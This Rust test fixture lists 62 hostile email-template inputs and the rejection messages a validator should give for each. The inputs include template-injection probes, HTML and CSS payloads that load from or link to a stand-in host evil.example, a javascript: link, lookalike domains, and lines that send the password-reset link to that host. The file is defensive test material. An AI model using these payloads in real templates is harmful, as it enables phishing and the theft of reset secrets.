//! Templates that would harm somebody, or nobody could use.

use crate::domain::mail::TemplatePart;

/// What is put in after the needed lines of a part, and the place and a word of what is said of it. The
/// needed lines are three in the text part and two in the HTML part.
pub(super) const HOSTILE: [(TemplatePart, &str, (u32, u32), &str); 62] = {
    use TemplatePart::{Html, Subject, Text};
    [
        // What does not read.
        (Text, "a {{ lin", (4, 6), "does not read"),
        (Text, "a {% if asked %}", (4, 15), "does not read"),
        (Html, "<p>{{ link | }}</p>", (3, 14), "does not read"),
        (Subject, " {{ %}", (1, 22), "does not read"),
        // Unknown words.
        (Text, "a\n  {{ lnk }}", (5, 6), "Did you mean `link`?"),
        (
            Text,
            "{% if false %}{{ user_name }}{% endif %}",
            (4, 18),
            "`username`",
        ),
        (Text, "{{ something_else }}", (4, 4), "There are: site_name"),
        (Html, "{{ password }}", (3, 4), "no placeholder `password`"),
        (Text, "{{ link|md5 }}", (4, 9), "filter `md5`"),
        (Text, "{{ username|safe }}", (4, 13), "filter `safe`"),
        // Secrets that are worked on.
        (Text, "{{ link|upper }}", (4, 4), "as it is"),
        (Text, "{{ link ~ username }}", (4, 4), "cannot compute"),
        (Text, "{{ link[0] }}", (4, 4), "cannot compute"),
        (Text, "{{ link[:4] }}", (4, 4), "cannot compute"),
        (
            Text,
            "{% if code == \"1\" %}x{% endif %}",
            (4, 7),
            "as it is",
        ),
        (
            Text,
            "{% if \"a\" in link %}x{% endif %}",
            (4, 14),
            "as it is",
        ),
        (Text, "{{ link if asked else \"\" }}", (4, 4), "as it is"),
        (Text, "{{ username|default(link) }}", (4, 21), "as it is"),
        (Subject, " {{ link }}", (1, 22), "subject"),
        (Subject, " {% if code %}x{% endif %}", (1, 25), "subject"),
        // Statements.
        (Text, "{% set x = 1 %}", (4, 4), "`set`"),
        (Text, "{% set x %}{{ link }}{% endset %}", (4, 4), "`set`"),
        (Text, "{% for x in [1] %}{% endfor %}", (4, 4), "`for`"),
        (
            Html,
            "{% autoescape false %}x{% endautoescape %}",
            (3, 4),
            "`autoescape`",
        ),
        (
            Html,
            "{% filter upper %}{{ link }}{% endfilter %}",
            (3, 4),
            "`filter`",
        ),
        (
            Html,
            "{% macro m(x) %}{{ x }}{% endmacro %}",
            (3, 4),
            "`macro`",
        ),
        (Html, "{% with x = link %}x{% endwith %}", (3, 4), "`with`"),
        (Html, "{% import \"parts.html\" as p %}", (3, 4), "`import`"),
        (Html, "{% from \"x.html\" import y %}", (3, 9), "parts.html"),
        (
            Html,
            "{% from \"parts.html\" import link %}",
            (3, 29),
            "is a placeholder",
        ),
        (
            Html,
            "{% include \"password_reset_link/en/body.txt\" %}",
            (3, 12),
            "footer",
        ),
        (
            Text,
            "{% include \"footer/en.html\" %}",
            (4, 12),
            "footer/en.txt",
        ),
        (Html, "{{ lipsum() }}", (3, 4), "no macro `lipsum`"),
        (Html, "{{ self.x() }}", (3, 8), "cannot compute"),
        (Html, "{{ username.__class__ }}", (3, 4), "cannot compute"),
        (Html, "{{ 10 ** 10 }}", (3, 4), "cannot compute"),
        (Html, "{% do username() %}", (3, 4), "`do`"),
        // What loads something.
        (
            Html,
            "x <img src=\"https://evil.example/x.png\">",
            (3, 8),
            "loaded",
        ),
        (
            Html,
            "x <img src=x srcset=\"https://evil.example/x.png\">",
            (3, 14),
            "srcset",
        ),
        (
            Html,
            "<table background=\"https://evil.example\">",
            (3, 8),
            "background",
        ),
        (
            Html,
            "<link rel=stylesheet href=\"https://evil.example\">",
            (3, 1),
            "<link>",
        ),
        (Html, "<script>1</script>", (3, 1), "<script>"),
        (Html, "<iframe></iframe>", (3, 1), "<iframe>"),
        (
            Html,
            "<form action=\"https://evil.example\">",
            (3, 1),
            "<form>",
        ),
        (
            Html,
            "<base href=\"https://evil.example\">",
            (3, 1),
            "<base>",
        ),
        (
            Html,
            "<meta http-equiv=refresh content=\"0;url=x\">",
            (3, 6),
            "http-equiv",
        ),
        (
            Html,
            "<svg><image href=\"https://evil.example\"/></svg>",
            (3, 1),
            "<svg>",
        ),
        (
            Html,
            "<style>@import \"https://evil.example\";</style>",
            (3, 8),
            "@import",
        ),
        (
            Html,
            "<p style=\"background:url(//evil.example)\">",
            (3, 22),
            "url(",
        ),
        (
            Html,
            "<p style=\"background:u\\72l(//evil.example)\">",
            (3, 23),
            "Styles",
        ),
        (
            Html,
            "<!--[if mso]><img src=\"https://evil.example\"><![endif]-->",
            (3, 19),
            "loaded",
        ),
        // What leads elsewhere.
        (
            Html,
            "<a href=\"https://evil.example\">x</a>",
            (3, 4),
            "leads elsewhere",
        ),
        (
            Html,
            "<a href=\"https://id.example.org@evil.example\">x</a>",
            (3, 4),
            "elsewhere",
        ),
        (
            Html,
            "<a href=\"https://id.example.org.evil.example\">x</a>",
            (3, 4),
            "elsewhere",
        ),
        (
            Html,
            "<a href=\"javascript:alert(1)\">x</a>",
            (3, 4),
            "leads elsewhere",
        ),
        (Html, "<p onclick=\"x\">", (3, 4), "onclick"),
        (
            Text,
            "see https://evil.example/help",
            (4, 5),
            "leads elsewhere",
        ),
        // Secrets out of their place.
        (
            Html,
            "<a href=\"https://evil.example/?{{ link }}\">",
            (3, 4),
            "attribute href",
        ),
        (
            Html,
            "<a href=\"https://id.example.org/?{{ link }}\">",
            (3, 4),
            "attribute href",
        ),
        (Html, "<p title=\"{{ link }}\">", (3, 4), "attribute title"),
        (
            Html,
            "<style>.x{color:{{ code }}}</style>",
            (3, 17),
            "<style>",
        ),
        (Text, "evil.example/{{ link }}", (4, 1), "stand alone"),
    ]
};
